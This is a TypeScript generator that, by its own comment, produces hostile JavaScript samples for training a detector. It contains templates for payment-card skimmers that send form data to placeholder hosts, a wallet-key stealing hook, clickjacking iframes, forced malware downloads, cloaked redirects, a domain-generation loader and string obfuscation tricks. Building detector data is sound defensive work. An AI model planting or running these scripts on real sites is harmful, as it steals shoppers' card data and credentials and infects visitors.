// Hostile behaviors that are recognized by what they do, not by their words. Training data for a detector: never run, the
// hosts do not exist, and filler replaces anything harmful.
import { base64, hostile, percent } from './hostile-templates.ts'
import { CARD_FIELDS, CARD_TEST, skim, leave, onCheckout, skimmer } from './skimmer-templates.ts'
import type { Family, Variation } from './variation.ts'

const codes = (text: string): string => [...text].map((c) => c.charCodeAt(0)).join(',')
const escapes = (text: string): string =>
  [...text].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')

/** A text, hidden in one of the ways in which authors hide one. */
export function hide(v: Variation, text: string): string {
  const key = v.number(1, 60)
  return v.pick([
    `'${[...text].toReversed().join('')}'.split('').reverse().join('')`,
    `String.fromCharCode(${codes(text)})`,
    `[${codes(text)}].map(function(c){return String.fromCharCode(c)}).join('')`,
    `"${escapes(text)}"`,
    `atob('${base64(text)}')`,
    `unescape('${percent(text)}')`,
    `decodeURIComponent('${percent(text)}')`,
    `[${[...text].map((c) => c.charCodeAt(0) ^ key).join(',')}].map(function(c){return String.fromCharCode(c^${key})}).join('')`,
    `'${text.replaceAll('.', '#')}'.replace(/#/g,'.')`,
  ])
}
const cookieOnce = (v: Variation, inner: string): string =>
  `if(document.cookie.indexOf('${v.key(5)}=1')<0){document.cookie='${v.key(5)}=1;path=/;max-age=${v.number(1, 9) * 3600}';${inner}}`
const soon = (v: Variation, inner: string): string =>
  v.pick([
    `window.addEventListener('load',function(){${inner}});`,
    `setTimeout(function(){${inner}},${v.number(1, 90) * 100});`,
    `document.addEventListener('DOMContentLoaded',function(){${inner}},false);`,
    inner,
  ])
const loadScript = (v: Variation, url: string): string =>
  v.pick([
    `var ${v.id(8)}=document.createElement('script');${v.id(8)}.src=${url};document.head.appendChild(${v.id(8)});`,
    `var ${v.id(8)}=document.createElement('script');${v.id(8)}.async=true;${v.id(8)}.src=${url};var ${v.id(9)}=document.getElementsByTagName('script')[0];${v.id(9)}.parentNode.insertBefore(${v.id(8)},${v.id(9)});`,
    `document.write('<scr'+'ipt src="'+${url}+'"></scr'+'ipt>');`,
    `jQuery.getScript(${url});`,
  ])

export const HOSTILE_BEHAVIOURS: readonly Family[] = [
  skimmer(
    'action of a form exchanged when it is sent',
    (v) =>
      `(function(){var f=document.${v.pick([`querySelector('form[action*="${v.pick(['checkout', 'payment', 'order'])}"]')`, `getElementById('${v.pick(['payment-form', 'co-payment-form', 'checkout_form'])}')`, `forms[${v.number(0, 3)}]`])};if(!f)return;var o=f.action;f.addEventListener('submit',function(){f.action=${hide(v, v.address())};${v.pick(['', `f.target='${v.key(4)}';`])}setTimeout(function(){f.action=o},${v.number(1, 20) * 100})},true)})();`,
  ),
  skimmer(
    'fields asked for again and again, once each',
    (v) =>
      `var ${v.id(0)}='';setInterval(function(){${v.pick([`if(location.pathname.indexOf('${v.pick(['checkout', 'onepage', 'payment'])}')===-1)return;`, `if(!/${v.pick(['checkout', 'onestep', 'order'])}/.test(location.href))return;`])}${skim(v, v.id(1))}if(${v.id(1)}!==${v.id(0)}&&${v.id(1)}.length>${v.number(10, 60)}){${v.id(0)}=${v.id(1)};${leave(v, v.id(1))}}},${v.number(3, 40) * 100});`,
  ),
  skimmer(
    'loader in the manner of a tag manager',
    (v) =>
      `(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'${v.pick(['gtm', 'tag', 'ga'])}.start':new Date().getTime(),event:'${v.pick(['gtm.js', 'load'])}'});${v.pick([`if(!/${v.pick(['checkout', 'payment', 'cart'])}/.test(d.location.href))return;`, `if(d.location.href.indexOf(${hide(v, 'checkout')})<0)return;`])}var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src=${hide(v, v.address())};f.parentNode.insertBefore(j,f)})(window,document,'script','${v.pick(['dataLayer', 'dl', 'layer'])}','${v.pick(['GTM', 'G', 'UA'])}-${v.key(6)}');`,
  ),
  skimmer(
    'counter that reads fields, too',
    (v) =>
      `window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag('js',new Date());gtag('config','UA-${v.number(10_000, 99_999)}-1');${soon(v, onCheckout(v, `${skim(v, v.id(1))}${leave(v, v.id(1))}`))}`,
  ),
  skimmer(
    'background of a style as a way out',
    (v) =>
      `document.addEventListener('${v.pick(['change', 'focusout', 'submit'])}',function(e){${skim(v, v.id(1))}if(${v.pick(CARD_TEST)}.test(${v.id(1)})){var s=document.createElement('${v.pick(['style', 'div', 'link'])}');${v.pick([`s.innerHTML='body::after{content:url('+${hide(v, `${v.address()}?`)}+btoa(${v.id(1)})+')}';document.head.appendChild(s)`, `s.rel='stylesheet';s.href=${hide(v, `${v.address()}?`)}+btoa(${v.id(1)});document.head.appendChild(s)`, `s.style.backgroundImage='url('+${hide(v, `${v.address()}?`)}+encodeURIComponent(${v.id(1)})+')';document.body.appendChild(s)`])}}},true);`,
  ),
  skimmer('payment fields put in the place of others', (v) => {
    const names = v.pick(CARD_FIELDS)
    return `${soon(
      v,
      `var b=document.querySelector('${v.pick(['#payment', '.payment-method', '#co-payment-form', '.checkout-payment'])}');if(b){b.innerHTML='${v.pick(['<div class="cc">', '<fieldset>'])}<input id="${v.id(1)}n" placeholder="Card number" name="${String(
        names,
      )
        .slice(0, 20)
        .replaceAll(
          /[^\w-]/gu,
          '',
        )}"><input id="${v.id(1)}e" placeholder="MM / YY"><input id="${v.id(1)}c" placeholder="CVV"><button type=button id="${v.id(1)}b">Pay</button>';document.getElementById('${v.id(1)}b').onclick=function(){var d=['n','e','c'].map(function(k){return document.getElementById('${v.id(1)}'+k).value}).join('|');${leave(v, 'd')}${v.pick(["alert('Payment declined, please try again');", 'location.reload();', "b.style.display='none';"])}}}`,
    )}`
  }),
  skimmer(
    'fields mixed with a key',
    (v) =>
      `var k='${v.key(8)}';function ${v.id(0)}(s){var r='';for(var i=0;i<s.length;i++)r+=String.fromCharCode(s.charCodeAt(i)^k.charCodeAt(i%k.length));return ${v.pick(['btoa(r)', 'escape(r)', "r.split('').map(function(c){return c.charCodeAt(0).toString(16)}).join('')"])}}document.addEventListener('${v.pick(['click', 'mousedown', 'submit'])}',function(){${skim(v, v.id(1))}if(${v.id(1)}){var x=${v.id(0)}(${v.id(1)});${leave(v, 'x')}}},true);`,
  ),
  skimmer(
    'fields over a socket that stays open',
    (v) =>
      `var ${v.id(0)}=new WebSocket(${hide(v, v.address().replace(/^(?:https?:)?/u, 'wss:'))});document.querySelectorAll('${v.pick(['input', 'input,select', '[name*=card],[name*=cvv]'])}').forEach(function(e){e.addEventListener('${v.pick(['input', 'change', 'blur'])}',function(){${v.id(0)}.send(${v.pick(["e.name+'='+e.value", 'JSON.stringify({n:e.name,v:e.value})', "btoa(e.id+':'+e.value)"])})})});`,
  ),
  hostile(
    'library that spies on wallets',
    (v) =>
      `(function(){var g=${v.pick(['window.bitcore', 'window.wallet', 'Wallet.prototype', 'Credentials.prototype'])};if(!g)return;var o=g.${v.pick(['getKeys', 'sign', 'export'])};g.${v.pick(['getKeys', 'sign', 'export'])}=function(p){var r=o.apply(this,arguments);try{if(${v.pick(['this.balance>100', 'true', "this.network=='livenet'"])}){var x=new XMLHttpRequest();x.open('POST',${hide(v, v.address())});x.send(JSON.stringify({k:r,p:p,b:this.balance}))}}catch(e){}return r}})();`,
  ),
  hostile('any click opens another window', (v) => {
    const inner = cookieOnce(
      v,
      v.pick([
        `var w=window.open(${hide(v, v.address())},'_blank');${v.pick(['w.blur();window.focus();', ''])}`,
        `window.open(${hide(v, v.address())});location.href=${hide(v, v.address())};`,
      ]),
    )
    return v.pick([
      `document.onclick=function(){${inner}};`,
      `document.body.onclick=function(){${inner}};`,
      `document.addEventListener('click',function(){${inner}});`,
      `window.addEventListener('mousedown',function(){${inner}},true);`,
    ])
  }),
  hostile(
    'frame under the pointer',
    (v) =>
      `var f=document.createElement('iframe');f.src=${hide(v, v.address())};f.style.cssText='position:absolute;opacity:${v.pick(['0', '0.01', '0.001'])};width:${v.number(2, 12)}0px;height:${v.number(2, 8)}0px;z-index:${v.number(9, 99_999)};border:0';document.body.appendChild(f);document.onmousemove=function(e){f.style.left=(e.pageX-${v.number(5, 60)})+'px';f.style.top=(e.pageY-${v.number(5, 30)})+'px'};`,
  ),
  hostile('script of another host, for those who come for the first time', (v) =>
    soon(
      v,
      cookieOnce(
        v,
        v.pick([
          loadScript(v, hide(v, v.address())),
          `if(document.referrer.indexOf(location.host)<0&&document.referrer!==''){${loadScript(v, hide(v, v.address()))}}`,
          `if(!/bot|crawl|spider/i.test(navigator.userAgent)){${loadScript(v, `${hide(v, v.address())}+'?r='+encodeURIComponent(document.referrer)+'&u='+encodeURIComponent(navigator.userAgent)`)}}`,
        ]),
      ),
    ),
  ),
  hostile('program pressed on whoever comes', (v) =>
    soon(
      v,
      `var a=document.createElement('a');a.href=${hide(v, `${v.address()}/${v.pick(['setup', 'update', 'player', 'invoice'])}.${v.pick(['exe', 'msi', 'zip', 'apk', 'js', 'hta'])}`)};a.download='${v.pick(['Setup', 'Update', 'Invoice', 'Player'])}.${v.pick(['exe', 'msi', 'zip', 'apk', 'hta'])}';a.style.display='none';document.body.appendChild(a);a.click();`,
    ),
  ),
  hostile('page written from escapes', (v) => {
    const inner = v.pick([
      `<script src="${v.address()}"></script>`,
      `<iframe src="${v.address()}" width="${v.number(0, 2)}" height="${v.number(0, 2)}" frameborder="0"></iframe>`,
      `<script>window.location='${v.address()}'</script>`,
      `<meta http-equiv="refresh" content="0;url=${v.address()}">`,
    ])
    const wide = [...inner].map((c) => `%u00${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')
    return v.pick([
      `document.write(unescape('${percent(inner)}'));`,
      `document.write(unescape("${wide}"));`,
      `var ${v.id(0)}='${percent(inner)}';document.writeln(decodeURIComponent(${v.id(0)}));`,
      `eval(unescape('${percent(`document.write('${inner.replaceAll('/script', '\\/script')}')`)}'));`,
      `document.write(String.fromCharCode(${codes(inner)}));`,
    ])
  }),
  hostile('sent on by the hour and the machine', (v) =>
    soon(
      v,
      `var h=new Date().getHours(),u=navigator.userAgent;if(${v.pick(["/Windows/.test(u)&&u.indexOf('Chrome')>0", '/Android|iPhone/i.test(u)', "navigator.platform.indexOf('Win')==0", "u.indexOf('Mobile')>-1"])}&&${v.pick([`h>${v.number(6, 18)}`, `Math.random()<0.${v.number(1, 9)}`, "document.referrer!=''", 'navigator.language!="ru"'])}){${cookieOnce(v, `${v.pick(['location.href=', 'window.location=', 'top.location=', 'document.location.href='])}${hide(v, v.address())};`)}}`,
    ),
  ),
  hostile(
    'forms of the page sent twice',
    (v) =>
      `[].slice.call(document.forms).forEach(function(f){f.addEventListener('submit',function(){var x=new XMLHttpRequest();x.open('POST',${hide(v, v.address())},${v.pick(['false', 'true'])});x.send(${v.pick(['new FormData(f)', 'new URLSearchParams(new FormData(f)).toString()', "[].map.call(f.elements,function(e){return e.name+'='+e.value}).join('&')"])})})});`,
  ),
  hostile(
    'code that is asked for by a name of the day',
    (v) =>
      `(function(){var d=new Date(),s=d.getFullYear()*${v.number(3, 99)}+d.getMonth()*${v.number(3, 99)}+d.getDate(),n='';for(var i=0;i<${v.number(8, 14)};i++){s=(s*${v.number(1000, 9999)}+${v.number(100, 999)})%${v.number(10_000, 99_999)};n+=String.fromCharCode(97+s%26)}${loadScript(v, `'${v.pick(['http://', 'https://', '//'])}'+n+'.${v.pick(['example', 'test', 'invalid'])}/${v.pick(['a.js', 'in.php', 's'])}'`)}})();`,
  ),
]
